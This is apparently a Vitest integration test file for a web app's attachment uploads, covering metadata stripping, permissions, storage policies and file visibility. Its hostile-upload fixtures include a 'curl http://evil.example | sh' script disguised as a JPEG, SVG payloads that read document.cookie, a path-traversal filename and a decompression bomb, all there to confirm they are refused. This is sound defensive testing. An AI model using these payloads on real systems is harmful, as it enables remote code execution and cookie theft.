import { createHash } from 'node:crypto';
import exifReader from 'sharp';
import type postgres from 'postgres';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addAttachment } from '../../src/features/attachments/add-attachment.server.ts';
import { deleteAttachment } from '../../src/features/attachments/delete-attachment.server.ts';
import { listAttachments } from '../../src/features/attachments/queries.server.ts';
import { removeAvatar } from '../../src/features/attachments/remove-avatar.server.ts';
import { setAvatar } from '../../src/features/attachments/set-avatar.server.ts';
import { setSpaceHero } from '../../src/features/attachments/set-space-hero.server.ts';
import { bombPng, png } from '../storage/helpers.ts';
import { connectTestDb } from '../helpers/db.ts';
import { createProposal, createProposalsComponent, createUsers, grantRole, type ProposalsFixture, updateSettings } from '../proposals/fixtures.ts';
import { actor, type Actor, cameraPhoto, file, PDF, useTestStack } from './helpers.ts';

/**
 * Attachments through the app's use cases, against the real database and Storage: who may attach
 * (the registry's rule per resource type, asked again by RLS and the storage policies), what the
 * server does to a file (type from its bytes, images re-encoded without metadata and resized,
 * names sanitised), hostile files refused with a clear message and nothing stored, and who sees
 * the files (where the resource is seen; private spaces' files only through signed URLs).
 */

let sql: postgres.Sql;
let pub: ProposalsFixture;
let priv: ProposalsFixture;
let author: Actor;
let other: Actor;
let admin: Actor;
let member: Actor;
let anon: Actor;
let proposal: string;
let draft: string;
let privateProposal: string;

const add = (who: Actor, resourceId: string, f: File, title?: string, resourceType = 'proposal') =>
  addAttachment({ claims: who.claims, storage: who.storage, locale: 'fr' }, { resource_type: resourceType, resource_id: resourceId, title, file: f });
const rowsOf = (resourceId: string) =>
  sql<{ id: string; kind: string; bucket_id: string; object_name: string; thumbnail_name: string | null; file_name: string; content_type: string; width: number | null; height: number | null; thumbnail_width: number | null; thumbnail_height: number | null; byte_size: string }[]>`
    select * from public.attachments where resource_id = ${resourceId} order by created_at`;
const objectsUnder = async (resourceId: string) =>
  (await sql<{ n: number }[]>`select count(*)::int as n from storage.objects where name like ${`%/${resourceId}/%`}`)[0]!.n;
const bytesOf = async (url: string) => {
  const res = await fetch(url);
  return { status: res.status, body: Buffer.from(await res.arrayBuffer()), type: res.headers.get('content-type') };
};

beforeAll(async () => {
  useTestStack();
  sql = connectTestDb();
  [pub, priv] = await Promise.all([
    createProposalsComponent(sql, { settings: { attachments_allowed: true } }),
    createProposalsComponent(sql, { settings: { attachments_allowed: true }, private: true }),
  ]);
  const [a, o, ad, m] = await createUsers(sql, 4, 'attach');
  [author, other, admin, member, anon] = [actor(a!), actor(o!), actor(ad!), actor(m!), actor(null)];
  await grantRole(sql, pub, admin.id!, 'admin');
  await sql`insert into public.space_members (space_id, user_id) values (${priv.spaceId}, ${author.id}), (${priv.spaceId}, ${member.id})`;
  proposal = await createProposal(sql, pub, author.id!);
  draft = await createProposal(sql, pub, author.id!, { published: false });
  privateProposal = await createProposal(sql, priv, author.id!);
});

afterAll(async () => {
  await sql.end();
});

describe('what the server does to a file', () => {
  it('a camera photo: EXIF and GPS gone, re-encoded as WebP at 1600 px with a 480×320 thumbnail, its name sanitised', async () => {
    const photo = await cameraPhoto();
    expect((await exifReader(photo).metadata()).exif).toBeDefined();
    const r = await add(author, proposal, file(photo, '../../Photo du parc\u0000 été.JPG', 'image/jpeg'), 'Le parc');
    expect(r.ok).toBe(true);
    const [row] = await rowsOf(proposal);
    expect(row).toMatchObject({ kind: 'image', bucket_id: 'attachments', content_type: 'image/webp', file_name: 'Photo du parc été.webp', width: 1600, height: 1067, thumbnail_width: 480, thumbnail_height: 320 });
    expect(row!.object_name).toMatch(new RegExp(`^proposal/${proposal}/[0-9a-f-]{36}\\.webp$`));
    const { items } = await listAttachments(anon, 'proposal', proposal);
    const item = items.find((i) => i.id === row!.id)!;
    expect(item.title).toEqual({ fr: 'Le parc' });
    const full = await bytesOf(item.url);
    expect(full.status).toBe(200);
    const meta = await exifReader(full.body).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 1600, height: 1067 });
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(full.body.includes(Buffer.from('Decidons'))).toBe(false);
    const thumb = await exifReader((await bytesOf(item.thumbnail!.url)).body).metadata();
    expect(thumb).toMatchObject({ format: 'webp', width: 480, height: 320 });
    expect(thumb.exif).toBeUndefined();
  });

  it('documents are kept byte for byte under the type read in their bytes; text only as .txt or .csv', async () => {
    const r = await add(author, proposal, file(PDF, 'Compte rendu.pdf', 'application/octet-stream'));
    expect(r.ok).toBe(true);
    const csv = await add(author, proposal, file('quartier;budget\nCentre;1200\n', 'budget.csv', 'text/csv'));
    expect(csv.ok).toBe(true);
    const rows = await rowsOf(proposal);
    const pdf = rows.find((x) => x.file_name === 'Compte rendu.pdf')!;
    expect(pdf).toMatchObject({ kind: 'document', content_type: 'application/pdf', thumbnail_name: null });
    expect(pdf.object_name).toMatch(/\.pdf$/);
    const { items } = await listAttachments(other, 'proposal', proposal);
    const view = items.find((i) => i.id === pdf.id)!;
    expect(view.title).toEqual({ fr: 'Compte rendu' });
    const got = await bytesOf(view.downloadUrl);
    expect(createHash('sha256').update(got.body).digest('hex')).toBe(createHash('sha256').update(PDF).digest('hex'));
    expect(got.type).toBe('application/pdf');
    expect(rows.find((x) => x.file_name === 'budget.csv')).toMatchObject({ content_type: 'text/csv' });
  });
});

describe('hostile uploads are refused with a clear message, and nothing is stored', () => {
  const refusals: [string, () => Promise<File>, number, string][] = [
    ['a script renamed .jpg', async () => file('#!/bin/sh\ncurl http://evil.example | sh\n', 'vacances.jpg', 'image/jpeg'), 415, 'attachments.error.notAnImage'],
    ['an SVG with a script', async () => file('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>', 'logo.svg', 'image/svg+xml'), 415, 'attachments.error.svg'],
    ['an SVG renamed .png', async () => file('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'logo.png', 'image/png'), 415, 'attachments.error.svg'],
    ['a 100 MB file', async () => file(new Uint8Array(100 * 1024 * 1024), 'enorme.pdf', 'application/pdf'), 413, 'attachments.error.tooLarge'],
    ['a decompression-bomb image', async () => file(bombPng(), 'bombe.png', 'image/png'), 413, 'attachments.error.tooManyPixels'],
    ['a program', async () => file(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(512, 0x90)]), 'setup.pdf', 'application/pdf'), 415, 'attachments.error.type'],
    ['an HTML page named .txt', async () => file(Buffer.from([0x3c, 0x68, 0x74, 0x6d, 0x6c, 0x3e, 0x00, 0x01]), 'lisez-moi.txt', 'text/plain'), 415, 'attachments.error.type'],
    ['an empty file', async () => new File([], 'vide.pdf'), 422, 'attachments.error.empty'],
  ];
  it.each(refusals)('%s', async (_label, make, status, key) => {
    const target = await createProposal(sql, pub, author.id!);
    const f = await make();
    const r = await add(author, target, f);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.failure).toMatchObject({ status, field: 'file', message: { key } });
    expect(await rowsOf(target)).toEqual([]);
    expect(await objectsUnder(target)).toBe(0);
  });
});

describe('who may attach', () => {
  it('authors where the component allows it, and the space’s admins; nobody else, nor once withdrawn', async () => {
    const target = await createProposal(sql, pub, author.id!);
    const txt = () => file('Bonjour', 'note.txt', 'text/plain');
    expect((await add(anon, target, txt())).ok).toBe(false);
    const refused = await add(other, target, txt());
    expect(refused).toMatchObject({ ok: false, failure: { status: 403, message: { key: 'attachments.error.forbidden' } } });
    expect((await add(admin, target, txt())).ok).toBe(true);
    expect((await add(author, target, txt())).ok).toBe(true);
    await sql`update public.proposals set withdrawn_at = now() where id = ${target}`;
    expect((await add(author, target, txt())).ok).toBe(false);
    const other2 = await createProposal(sql, pub, author.id!);
    await updateSettings(sql, pub, { attachments_allowed: false });
    try {
      expect((await add(author, other2, txt())).ok).toBe(false);
      expect((await add(admin, other2, txt())).ok).toBe(true);
    } finally {
      await updateSettings(sql, pub, { attachments_allowed: true });
    }
  });

  it('the storage policies and the row’s trigger hold even without the app: wrong place, wrong bucket, someone else’s bytes', async () => {
    const target = await createProposal(sql, pub, author.id!);
    const webp = await png(10, 10);
    // Someone who may not attach cannot even upload bytes there.
    const intruder = await other.storage.from('attachments').upload(`proposal/${target}/x.webp`, webp, { contentType: 'image/webp' });
    expect(intruder.error).toMatchObject({ statusCode: '403' });
    // A public space's files go to the public bucket only.
    const wrongBucket = await author.storage.from('attachments-private').upload(`proposal/${target}/x.webp`, webp, { contentType: 'image/webp' });
    expect(wrongBucket.error).toMatchObject({ statusCode: '403' });
    // Nor into another person's profile, nor a space they do not administer.
    expect((await author.storage.from('attachments').upload(`profile/${other.id}/a.webp`, webp, { contentType: 'image/webp' })).error).toMatchObject({ statusCode: '403' });
    expect((await author.storage.from('attachments').upload(`space/${pub.spaceId}/h.webp`, webp, { contentType: 'image/webp' })).error).toMatchObject({ statusCode: '403' });
    // An admin's bytes cannot be claimed by the author's row.
    const name = `proposal/${target}/admins.webp`;
    expect((await admin.storage.from('attachments').upload(name, webp, { contentType: 'image/webp' })).error).toBeNull();
    const claim = await sql.begin(async (tx) => {
      await tx`select set_config('role', 'authenticated', true), set_config('request.jwt.claims', ${JSON.stringify(author.claims)}, true)`;
      return tx`insert into public.attachments (resource_type, resource_id, kind, title, file_name, content_type, byte_size, bucket_id, object_name)
                values ('proposal', ${target}, 'document', ${tx.json({ fr: 'x' })}, 'x.webp', 'image/webp', 10, 'attachments', ${name})`;
    }).then(() => 'inserted', (e: { constraint_name?: string }) => e.constraint_name);
    expect(claim).toBe('attachments_object_place');
  });

  it('folders, without the app: made by who may attach files only, and a file goes only into its own resource’s folders', async () => {
    const target = await createProposal(sql, pub, author.id!);
    const asPerson = (who: Actor, q: (tx: postgres.TransactionSql) => Promise<unknown>) => sql.begin(async (tx) => {
      await tx`select set_config('role', 'authenticated', true), set_config('request.jwt.claims', ${JSON.stringify(who.claims)}, true)`;
      return q(tx);
    }).then((r) => r, (e: { code: string }) => e.code);
    const folder = (tx: postgres.TransactionSql, resourceId: string) =>
      tx<{ id: string }[]>`insert into public.attachment_collections (resource_type, resource_id, name) values ('proposal', ${resourceId}, ${tx.json({ fr: 'Plans' })}) returning id`;
    expect(await asPerson(other, (tx) => folder(tx, target))).toBe('42501');
    const [mine] = (await asPerson(author, (tx) => folder(tx, target))) as { id: string }[];
    const [elsewhere] = (await asPerson(author, (tx) => folder(tx, proposal))) as { id: string }[];
    const r = await add(author, target, file(PDF, 'a.pdf'));
    if (!r.ok) throw new Error('upload failed');
    expect(await asPerson(author, (tx) => tx`update public.attachments set collection_id = ${elsewhere!.id} where id = ${r.value.id}`)).toBe('23503');
    expect(await asPerson(other, async (tx) => (await tx`update public.attachments set collection_id = ${mine!.id} where id = ${r.value.id}`).count)).toBe(0);
    expect(await asPerson(author, async (tx) => (await tx`update public.attachments set collection_id = ${mine!.id} where id = ${r.value.id}`).count)).toBe(1);
    expect(await asPerson(other, async (tx) => (await tx`delete from public.attachment_collections where id = ${mine!.id}`).count)).toBe(0);
  });
});

describe('who sees the files', () => {
  it('a draft’s files are its authors’ only', async () => {
    expect((await add(author, draft, file(PDF, 'brouillon.pdf'))).ok).toBe(true);
    expect((await listAttachments(author, 'proposal', draft)).items).toHaveLength(1);
    expect((await listAttachments(other, 'proposal', draft)).items).toEqual([]);
    expect((await listAttachments(anon, 'proposal', draft)).items).toEqual([]);
  });

  it('a hidden proposal’s files are gone for everyone but moderators', async () => {
    const target = await createProposal(sql, pub, author.id!);
    expect((await add(author, target, file(PDF, 'cache.pdf'))).ok).toBe(true);
    await sql`update public.proposals set hidden_at = now() where id = ${target}`;
    expect((await listAttachments(anon, 'proposal', target)).items).toEqual([]);
    expect((await listAttachments(other, 'proposal', target)).items).toEqual([]);
    expect((await listAttachments(admin, 'proposal', target)).items).toHaveLength(1);
  });

  it('a private space’s files are in the private bucket, signed for its members only', async () => {
    const r = await add(author, privateProposal, file(await png(800, 600), 'plan.png', 'image/png'), 'Plan');
    expect(r.ok).toBe(true);
    const [row] = await rowsOf(privateProposal);
    expect(row!.bucket_id).toBe('attachments-private');
    const seen = await listAttachments(member, 'proposal', privateProposal);
    expect(seen.items).toHaveLength(1);
    const url = seen.items[0]!.thumbnail!.url;
    expect(url).toContain('/storage/v1/object/sign/attachments-private/');
    expect((await bytesOf(url)).status).toBe(200);
    for (const outsider of [other, anon]) {
      expect((await listAttachments(outsider, 'proposal', privateProposal)).items).toEqual([]);
      expect((await outsider.storage.from('attachments-private').download(row!.object_name)).error).toMatchObject({ statusCode: '404' });
      expect((await outsider.storage.from('attachments-private').createSignedUrl(row!.object_name, 60)).error).toBeTruthy();
    }
    expect((await fetch(other.storage.from('attachments-private').getPublicUrl(row!.object_name).data.publicUrl)).status).toBe(400);
  });
});

describe('removing', () => {
  it('the author removes a file: row and bytes gone; someone else cannot', async () => {
    const target = await createProposal(sql, pub, author.id!);
    const r = await add(author, target, file(await png(100, 100), 'a.png'));
    if (!r.ok) throw new Error('upload failed');
    const [row] = await rowsOf(target);
    const url = author.storage.from('attachments').getPublicUrl(row!.object_name).data.publicUrl;
    expect((await fetch(url)).status).toBe(200);
    expect(await deleteAttachment(other, { attachment_id: r.value.id, confirm: 'yes' })).toMatchObject({ ok: false, failure: { status: 404 } });
    expect(await deleteAttachment(author, { attachment_id: r.value.id, confirm: 'yes' })).toMatchObject({ ok: true });
    expect(await rowsOf(target)).toEqual([]);
    expect((await fetch(url)).status).toBe(400);
    expect(await objectsUnder(target)).toBe(0);
  });

  it('a deleted draft takes its attachments along; their bytes wait for the purge job', async () => {
    const target = await createProposal(sql, pub, author.id!, { published: false });
    expect((await add(author, target, file(PDF, 'x.pdf'))).ok).toBe(true);
    const [row] = await rowsOf(target);
    await sql`delete from public.proposals where id = ${target}`;
    expect(await rowsOf(target)).toEqual([]);
    const orphans = await sql`select 1 from private.orphan_objects where bucket_id = 'attachments' and name = ${row!.object_name}`;
    expect(orphans).toHaveLength(1);
  });
});

describe('hero images and avatars', () => {
  it('a space’s admins set its hero (banner and card, in the bucket of its privacy); nobody else', async () => {
    const photo = file(await cameraPhoto(), 'vue.jpg', 'image/jpeg');
    expect(await setSpaceHero(other, { space_id: pub.spaceId, file: photo })).toMatchObject({ ok: false, failure: { status: 403 } });
    expect(await setSpaceHero(admin, { space_id: pub.spaceId, file: photo })).toMatchObject({ ok: true });
    const [space] = await sql<{ hero_image: { bucket: string; name: string; width: number; height: number; card: { width: number; height: number } } }[]>`
      select hero_image from public.spaces where id = ${pub.spaceId}`;
    expect(space!.hero_image).toMatchObject({ bucket: 'attachments', width: 1600, height: 640, card: { width: 640, height: 320 } });
    expect(await setSpaceHero(admin, { space_id: pub.spaceId, file: file('<svg><script>x</script></svg>', 'x.svg') }))
      .toMatchObject({ ok: false, failure: { status: 415, message: { key: 'attachments.error.svg' } } });
    expect(await setSpaceHero(admin, { space_id: pub.spaceId, file: file(PDF, 'x.pdf') }))
      .toMatchObject({ ok: false, failure: { status: 415, message: { key: 'attachments.error.imageType' } } });
  });

  it('a person sets and removes their avatar, square and without metadata', async () => {
    const r = await setAvatar(member, { file: file(await cameraPhoto(), 'moi.jpg', 'image/jpeg') });
    expect(r.ok).toBe(true);
    const [p] = await sql<{ avatar: { bucket: string; name: string } }[]>`select avatar from public.profiles where id = ${member.id}`;
    expect(p!.avatar.name).toMatch(new RegExp(`^profile/${member.id}/`));
    const got = await bytesOf(member.storage.from('attachments').getPublicUrl(p!.avatar.name).data.publicUrl);
    const meta = await exifReader(got.body).metadata();
    expect(meta).toMatchObject({ width: 256, height: 256, format: 'webp' });
    expect(meta.exif).toBeUndefined();
    expect(await removeAvatar(member)).toMatchObject({ ok: true });
    expect((await sql`select avatar from public.profiles where id = ${member.id}`)[0]).toEqual({ avatar: null });
    expect((await bytesOf(member.storage.from('attachments').getPublicUrl(p!.avatar.name).data.publicUrl)).status).toBe(400);
  });
});
